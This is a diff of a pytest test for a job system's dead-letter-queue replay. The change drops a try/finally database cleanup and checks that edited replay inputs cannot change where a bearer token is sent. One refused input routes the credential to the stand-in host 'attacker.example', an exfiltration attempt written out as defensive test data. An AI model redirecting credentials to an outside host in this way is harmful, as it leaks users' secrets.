@@ -103,34 +103,30 @@ def test_a_replay_s_edited_input_may_not_change_where_the_credential_goes(
 ) -> None:
     service.route("/api/missing", Reply(404))
     service.route("/api/found", Reply(json={"found": True}))
-    db.execute("TRUNCATE service_instances")
-    try:
-        Client().services.register("partner", service.url("/api"))
-        start_worker("--concurrency", "1", extra_env={"PARTNER_TOKEN": TOKEN})
-        run = Client().submit("http-bearer", {"path": "/missing"})
-        with pytest.raises(RunFailed):
-            run.wait(timeout=60)
-        bearer = {"type": "bearer", "env": "PARTNER_TOKEN"}
+    Client().services.register("partner", service.url("/api"))
+    start_worker("--concurrency", "1", extra_env={"PARTNER_TOKEN": TOKEN})
+    run = Client().submit("http-bearer", {"path": "/missing"})
+    with pytest.raises(RunFailed):
+        run.wait(timeout=60)
+    bearer = {"type": "bearer", "env": "PARTNER_TOKEN"}
 
-        def replay(new_input: dict[str, object]) -> str:
-            done = run_hive("dlq", "replay", str(run.id), "--input", json.dumps(new_input), env=env)
-            assert done.returncode == 1, describe(done)
-            assert db.run_status(run.id) == "failed", "a refused replay changes nothing"
-            return done.stderr
+    def replay(new_input: dict[str, object]) -> str:
+        done = run_hive("dlq", "replay", str(run.id), "--input", json.dumps(new_input), env=env)
+        assert done.returncode == 1, describe(done)
+        assert db.run_status(run.id) == "failed", "a refused replay changes nothing"
+        return done.stderr
 
-        elsewhere = replay({"service": "elsewhere", "path": "/found", "auth": bearer})
-        to_url = replay({"url": "https://attacker.example/", "auth": bearer})
-        other_variable = replay(
-            {"service": "partner", "path": "/found", "auth": {**bearer, "env": "OTHER_TOKEN"}}
-        )
-        fixed = run_hive(
-            "dlq", "replay", str(run.id), "--input",
-            json.dumps({"service": "partner", "path": "/found", "auth": bearer}), env=env,
-        )  # fmt: skip
-        assert fixed.returncode == 0, describe(fixed)
-        output = Client().run(run.id).wait(timeout=60)
-    finally:
-        db.execute("TRUNCATE service_instances")
+    elsewhere = replay({"service": "elsewhere", "path": "/found", "auth": bearer})
+    to_url = replay({"url": "https://attacker.example/", "auth": bearer})
+    other_variable = replay(
+        {"service": "partner", "path": "/found", "auth": {**bearer, "env": "OTHER_TOKEN"}}
+    )
+    fixed = run_hive(
+        "dlq", "replay", str(run.id), "--input",
+        json.dumps({"service": "partner", "path": "/found", "auth": bearer}), env=env,
+    )  # fmt: skip
+    assert fixed.returncode == 0, describe(fixed)
+    output = Client().run(run.id).wait(timeout=60)
 
     why = "may not differ from the pipeline's: auth is set, and a run's input could send"
     assert f"the new input of step 'call' changes what its pipeline sets: input.service: {why}" in (
